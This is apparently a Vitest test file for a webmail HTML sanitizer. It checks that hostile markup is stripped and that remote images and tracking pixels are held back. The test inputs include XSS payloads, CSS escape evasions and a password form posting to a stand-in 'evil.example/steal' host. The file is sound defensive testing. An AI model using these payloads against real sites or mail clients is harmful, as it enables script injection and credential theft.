import { describe, expect, it } from "vitest";
import { sanitizeMailHtml } from "./mail-html";

const cidUrl = (cid: string) => (cid === "photo1@example.ee" ? "/api/v1/attachments/att_1" : null);
const clean = (html: string) => sanitizeMailHtml(html, { cidUrl });

describe("sanitizeMailHtml removes what could run or navigate", () => {
  it.each([
    ["script", `<p>Hi</p><script>alert(1)</script>`, /script|alert/i],
    ["onerror", `<img src="x" onerror="alert(1)"><p onclick="alert(2)">Hi</p>`, /onerror|onclick|alert/i],
    ["svg with script", `<svg><script>alert(1)</script><a xlink:href="javascript:alert(2)">x</a></svg><p>Hi</p>`, /svg|script|alert|javascript/i],
    ["svg onload", `<svg onload="alert(1)"></svg><p>Hi</p>`, /svg|onload|alert/i],
    ["javascript: link", `<a href="javascript:alert(1)">Hi</a><a href=" JaVaScRiPt:alert(2)">x</a><a href="jav&#x09;ascript:alert(3)">y</a>`, /javascript|alert/i],
    ["vbscript and data: links", `<a href="vbscript:msgbox(1)">Hi</a><a href="data:text/html,<script>alert(1)</script>">x</a>`, /vbscript|data:|alert/i],
    ["meta refresh and base", `<meta http-equiv="refresh" content="0;url=https://evil.example"><base href="https://evil.example/"><p>Hi</p>`, /meta|refresh|base|evil/i],
    ["form and inputs", `<form action="https://evil.example/steal"><input name="password"><button>Send</button></form><p>Hi</p>`, /form|input|action|evil/i],
    ["iframe srcdoc", `<iframe srcdoc="<script>alert(1)</script>" src="https://evil.example"></iframe><p>Hi</p>`, /iframe|srcdoc|alert|evil/i],
    ["object and embed", `<object data="evil.swf"></object><embed src="evil.swf"><p>Hi</p>`, /object|embed|swf/i],
    ["css expression", `<p style="width: expression(alert(1)); color: red">Hi</p>`, /expression|alert/i],
    ["css escaped expression", `<p style="width: e\\78 pression(alert(1))">Hi</p>`, /pression|alert/i],
    ["css binding", `<p style="-moz-binding: url(https://evil.example/x.xml#a); behavior: url(x.htc)">Hi</p>`, /binding|behavior|evil|htc/i],
    ["style block import and expression", `<style>@import url(https://evil.example/x.css); p { width: expression(alert(1)) }</style><p>Hi</p>`, /@import|evil|expression\(/i],
    ["style block closing trick", `<style>p{color:red}\\3c /style\\3e \\3c script\\3e alert(1)</style><p>Hi</p>`, /<script|<\/style><s/i],
    ["data: html image", `<img src="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="><p>Hi</p>`, /data:text/i],
  ])("%s", (_name, input, forbidden) => {
    const { html } = clean(input);
    expect(html).not.toMatch(forbidden);
  });

  it("keeps the readable content of the hostile mails", () => {
    expect(clean(`<form><p>Order 42</p></form>`).html).toContain("<p>Order 42</p>");
    expect(clean(`<p onclick="x()">Καλημέρα</p>`).html).toBe("<p>Καλημέρα</p>");
  });
});

describe("sanitizeMailHtml links and images", () => {
  it("opens links in a new tab without a referrer or opener", () => {
    expect(clean(`<a href="https://shop.example/order/1" target="_self">Order</a>`).html).toBe(
      `<a href="https://shop.example/order/1" target="_blank" rel="noopener noreferrer">Order</a>`,
    );
    expect(clean(`<a href="mailto:help@shop.example">mail</a>`).html).toContain(`href="mailto:help@shop.example"`);
  });

  it("rewrites cid: images through cidUrl and drops unknown ones", () => {
    const { html, hasRemoteImages } = clean(`<img src="cid:photo1@example.ee" alt="foto"><img src="cid:missing@x" alt="gone">`);
    expect(html).toBe(`<img alt="foto" src="/api/v1/attachments/att_1" /><img alt="gone" />`);
    expect(hasRemoteImages).toBe(false);
  });

  it("keeps data: raster images", () => {
    const png = "data:image/png;base64,iVBORw0KGgo=";
    const { html, hasRemoteImages } = clean(`<img src="${png}">`);
    expect(html).toContain(`src="${png}"`);
    expect(hasRemoteImages).toBe(false);
  });

  it("holds back remote images until 'Show images' and says there were some", () => {
    const { html, hasRemoteImages } = clean(`<img src="https://tracker.example/pixel.gif?u=1" width="1">`);
    expect(html).toBe(`<img width="1" data-remote-src="https://tracker.example/pixel.gif?u=1" />`);
    expect(hasRemoteImages).toBe(true);
  });

  it("holds back remote CSS backgrounds in style attributes and background attributes", () => {
    const { html, hasRemoteImages } = clean(
      `<div style="color: red; background-image: url('https://cdn.example/bg.png')">x</div><table background="http://cdn.example/t.png"><tr><td>y</td></tr></table>`,
    );
    expect(html).toContain(`<div style="color: red" data-remote-style="color: red; background-image: url(&quot;https://cdn.example/bg.png&quot;)">`);
    expect(html).toContain(`<table data-remote-background="http://cdn.example/t.png">`);
    expect(html).not.toMatch(/(?<!data-remote-)(style|background)="[^"]*cdn\.example/);
    expect(hasRemoteImages).toBe(true);
  });

  it("catches a remote url() hidden behind CSS escapes", () => {
    const { html, hasRemoteImages } = clean(`<p style="background: \\75 rl(https://tracker.example/a.png)">x</p>`);
    expect(html).toBe(`<p data-remote-style="background: url(&quot;https://tracker.example/a.png&quot;)">x</p>`);
    expect(hasRemoteImages).toBe(true);
  });

  it("keeps <style> blocks without their url()s", () => {
    const { html, hasRemoteImages } = clean(`<style>body { background: url(https://cdn.example/bg.png) } p { color: #333 }</style><p>Hi</p>`);
    expect(html).toBe(`<style>body { background: none } p { color: #333 }</style><p>Hi</p>`);
    expect(hasRemoteImages).toBe(true);
  });

  it("reports no remote images for a plain mail", () => {
    expect(clean(`<p style="color:#333">Tere!</p>`)).toEqual({ html: `<p style="color:#333">Tere!</p>`, hasRemoteImages: false });
  });
});

describe("sanitizeMailHtml layout", () => {
  it("keeps the body's colours and background on a div and drops the head's title", () => {
    const { html, hasRemoteImages } = clean(
      `<html><head><title>Newsletter</title><style>p { margin: 0 }</style></head><body bgcolor="#fafafa" background="https://cdn.example/bg.png"><p>x</p></body></html>`,
    );
    expect(html).toBe(`<style>p { margin: 0 }</style><div bgcolor="#fafafa" data-remote-background="https://cdn.example/bg.png"><p>x</p></div>`);
    expect(hasRemoteImages).toBe(true);
  });
});
